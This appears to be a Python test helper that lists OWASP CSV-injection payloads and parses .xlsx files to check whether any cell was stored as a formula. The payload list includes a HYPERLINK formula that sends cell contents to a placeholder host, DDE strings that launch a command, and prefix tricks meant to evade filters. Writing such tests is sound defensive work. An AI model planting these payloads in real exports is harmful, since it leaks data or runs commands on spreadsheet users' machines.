"""Spreadsheet formula payloads (OWASP CSV injection) and how to find a formula in a workbook."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

from accord.io.cells import TRIGGERS

#: what an attacker writes into a title or a note, and legitimate text that looks like it
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Подробнее")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # text that already begins with the protective apostrophe
    "''+1",
    "'plain apostrophe",
]
DANGEROUS = [p for p in PAYLOADS if p[0] in TRIGGERS]


def formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet of an .xlsx stored as a formula (`<f>` element)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(rb"<c [^>]*>\s*<f[ >].*?</c>", book.read(name), re.S)
    return [f.decode() for f in found]


def string_values(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {
        c.value for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "s" and c.value
    }
